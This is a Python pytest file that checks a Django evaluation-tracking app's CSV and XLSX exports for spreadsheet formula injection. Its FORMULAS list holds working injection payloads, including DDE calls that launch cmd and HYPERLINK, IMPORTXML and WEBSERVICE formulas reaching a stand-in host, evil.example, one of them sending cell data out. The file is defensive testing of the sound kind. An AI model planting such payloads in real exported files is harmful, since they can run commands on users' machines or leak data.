"""T41: no text that somebody wrote is a formula in any file that leaves the product."""

import csv
import io
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from evaltracker.evaluations.models import Evaluation
from evaltracker.toolbox.text import harmless, meant
from tests.clients import signed_in
from tests.factories import common, vendors
from tests.programs import need_program
from tests.vendors.api.conftest import Party
from vendors.models import Candidate

pytestmark = pytest.mark.django_db
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "=2+5+cmd|' /C calc'!A0",
    "=@SUM(A1:A9)",
    "==1",
    "=\u00a01+1",
    "+1+1",
    "+cmd|' /C calc'!A0",
    '+HYPERLINK("http://evil.example")',
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "%0A=1+1",
    "|calc",
    "'=1+1",
    "''=1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u2003=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "_x003D_1+1",
]
# What a spreadsheet takes for a formula, as it reads a text.
RUNS = ("=", "+", "-", "@", "\t", "\r", "|", "%", "＝", "＋", "－", "＠")
FINE = ("Nothing to run here.", "a = b + c", "100 % of it", "mail@example.com")


@pytest.fixture
def purchase(db: None) -> Evaluation:
    """An evaluation in which everything that is named is a formula."""
    where = common.evaluation()
    for number in range(len(FORMULAS) + len(FINE)):
        common.requirement(where, f"R{number}", "should", text=f"What {number} asks")
    vendors.in_research(where)
    candidate = vendors.invited(where)
    for number, text in enumerate(FORMULAS):
        requirement = where.requirements.get(ref=f"R{number}")
        # Past every check of what comes in, as an old row might be.
        type(requirement).objects.filter(pk=requirement.pk).update(text=text)
        vendors.candidate(where, f"Option {number}", kind="build")
        Candidate.objects.filter(name=f"Option {number}").update(name=text)
        vendors.claim(candidate, requirement)
        candidate.claims.filter(requirement=requirement).update(statement=text)
    for number, text in enumerate(FINE, start=len(FORMULAS)):
        where.requirements.filter(ref=f"R{number}").update(text=text)
    where.categories.update(name=FORMULAS[1])
    return where


def texts_of(content: bytes) -> Iterator[str]:
    """Every text of a workbook, none of which may be a formula."""
    for sheet in load_workbook(io.BytesIO(content)):
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                if isinstance(cell.value, str):
                    # As every other reader spells it; openpyxl leaves it.
                    yield cell.value.replace("_x005F_", "_")


def exports(where: Evaluation, folder: Path) -> dict[str, list[str]]:
    """The texts of every file that can be had, by what it is."""
    owner = signed_in(where.owner)
    page = f"/admin/e/{where.slug}/matrix/file/"
    rows = csv.reader(io.StringIO(owner.get(f"{page}?format=csv").content.decode()))
    memo = folder / "memo.xlsx"
    call_command(
        "export_evaluation",
        where.slug,
        format="xlsx",
        output=memo,
        stderr=io.StringIO(),
    )
    candidate = where.candidates.get(name="Acme ML")
    assert candidate.vendor is not None
    vendor = Party(candidate, vendors.token(candidate.vendor))
    sheet = vendor.call("GET", f"{vendor.home}answer-sheet/", accept="*/*")
    return {
        "matrix.csv": [cell.removeprefix("\ufeff") for row in rows for cell in row],
        "matrix.xlsx": list(texts_of(owner.get(page).content)),
        "memo.xlsx": list(texts_of(memo.read_bytes())),
        "answer sheet": list(texts_of(sheet.content)),
    }


def test_no_export_holds_a_formula_and_each_keeps_its_text(
    purchase: Evaluation, tmp_path: Path, figure: Callable[[str], None]
) -> None:
    found = exports(purchase, tmp_path)
    for name, texts in found.items():
        live = [text for text in texts if text.strip().startswith(RUNS)]
        assert live == [], name
        back = {meant(text) for text in texts}
        assert set(FORMULAS) <= back, name
        assert set(FINE) <= set(texts), name
    cells = sum(map(len, found.values()))
    figure(
        f"T41: {len(FORMULAS)} formulas, {len(found)} exports, {cells:,} cells: 0 run"
    )


@pytest.mark.nightly(
    reason="each push reads the same cells with openpyxl, for which nothing is needed",
    short="::test_no_export_holds_a_formula_and_each_keeps_its_text",
)
def test_a_spreadsheet_program_sees_none_either(
    purchase: Evaluation, tmp_path: Path
) -> None:
    office = need_program("soffice")
    exports(purchase, tmp_path)
    command = [office, "--headless", "--convert-to", "csv", "--outdir", "."]
    subprocess.run([*command, "memo.xlsx"], cwd=tmp_path, check=True, timeout=120)
    said = (tmp_path / "memo.csv").read_text()
    assert "#NAME" not in said and "Err:" not in said


def test_what_could_run_is_marked_and_comes_back_exactly(
    subtests: pytest.Subtests,
) -> None:
    for text in (*FORMULAS, "\t=1", "\r=1", "\n+1", "\tplain"):
        with subtests.test(repr(text)):
            marked: Any = harmless(text)
            assert not marked.lstrip("\ufeff").lstrip().startswith(RUNS)
            assert meant(marked) == text


@pytest.mark.parametrize("text", FINE)
def test_other_text_is_left_alone(text: str) -> None:
    assert harmless(text) == text
